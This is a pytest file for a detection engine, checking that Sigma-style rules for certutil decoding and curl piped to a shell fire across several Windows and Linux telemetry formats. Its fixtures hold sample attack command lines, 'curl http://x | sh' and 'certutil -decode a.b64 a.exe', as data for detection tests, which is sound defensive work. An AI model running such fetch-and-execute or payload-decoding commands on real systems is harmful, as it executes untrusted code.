"""Golden cases: the same rule fires on Sysmon, Security 4688, Sysmon for Linux and ECS."""

from __future__ import annotations

from typing import Any

import pytest

from stockade.detection import DetectionEngine, load_rule_text
from stockade.telemetry.sources import event_from_json

WINDOWS_RULE = """
title: Certutil decodes
id: 11111111-1111-4111-8111-111111111111
logsource: {product: windows, category: process_creation}
detection:
    sel:
        Image|endswith: '\\certutil.exe'
        ParentImage|endswith: '\\cmd.exe'
        CommandLine|contains: '-decode'
        IntegrityLevel: High
    condition: sel
level: high
"""

LINUX_RULE = """
title: Curl piped to shell
id: 22222222-2222-4222-8222-222222222222
logsource: {product: linux, category: process_creation}
detection:
    sel:
        Image|endswith: '/curl'
        CommandLine|contains: '| sh'
    condition: sel
level: medium
"""

SYSMON_1: dict[str, Any] = {
    "Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": {
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "certutil -decode a.b64 a.exe",
            "IntegrityLevel": "High",
        },
    }
}
SECURITY_4688: dict[str, Any] = {
    "Event": {
        "System": {"EventID": 4688, "Channel": "Security"},
        "EventData": {
            "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "certutil -decode a.b64 a.exe",
            "MandatoryLabel": "S-1-16-12288",
        },
    }
}
WINLOGBEAT: dict[str, Any] = {
    "@timestamp": "2026-01-01T10:00:00Z",
    "winlog": {
        "event_id": "1",
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "event_data": SYSMON_1["Event"]["EventData"],
    },
}
ELASTIC_AGENT: dict[str, Any] = {
    "@timestamp": "2026-01-01T10:00:00Z",
    "event": {"category": ["process"], "type": ["start"]},
    "process": {
        "executable": "C:\\Windows\\System32\\certutil.exe",
        "command_line": "certutil -decode a.b64 a.exe",
        "parent": {"executable": "C:\\Windows\\System32\\cmd.exe"},
    },
}
LINUX_SYSMON: dict[str, Any] = {
    "Event": {
        "System": {"EventID": 1, "Channel": "Linux-Sysmon/Operational"},
        "EventData": {"Image": "/usr/bin/curl", "CommandLine": "curl http://x | sh"},
    }
}


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    rules = load_rule_text(WINDOWS_RULE, "w.yml") + load_rule_text(LINUX_RULE, "l.yml")
    assert rules.problems == ()
    return DetectionEngine(rules.rules)


def fired(engine: DetectionEngine, document: dict[str, Any]) -> list[str]:
    return [match.rule.title for match in engine.match(event_from_json(document))]


@pytest.mark.parametrize("document", [SYSMON_1, SECURITY_4688, WINLOGBEAT])
def test_windows_process_creation_in_every_shape(
    engine: DetectionEngine, document: dict[str, Any]
) -> None:
    assert fired(engine, document) == ["Certutil decodes"]


def test_elastic_agent_process_start_maps_to_sysmon_1(engine: DetectionEngine) -> None:
    event = event_from_json(ELASTIC_AGENT)

    assert event["EventID"] == 1
    assert event["Image"] == "C:\\Windows\\System32\\certutil.exe"
    # Elastic Agent carries no integrity level, so the full rule does not fire on it.
    assert fired(engine, ELASTIC_AGENT) == []
    assert fired(engine, {**ELASTIC_AGENT, "winlog": {"event_data": {"IntegrityLevel": "High"}}})


def test_sysmon_for_linux(engine: DetectionEngine) -> None:
    assert fired(engine, LINUX_SYSMON) == ["Curl piped to shell"]


def test_logsources_stay_apart(engine: DetectionEngine) -> None:
    as_network = {
        **SYSMON_1["Event"]["EventData"],
        "EventID": 3,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
    }
    linux_on_windows = {
        **LINUX_SYSMON["Event"]["EventData"],
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
    }

    assert engine.match(as_network) == []
    assert engine.match(linux_on_windows) == []
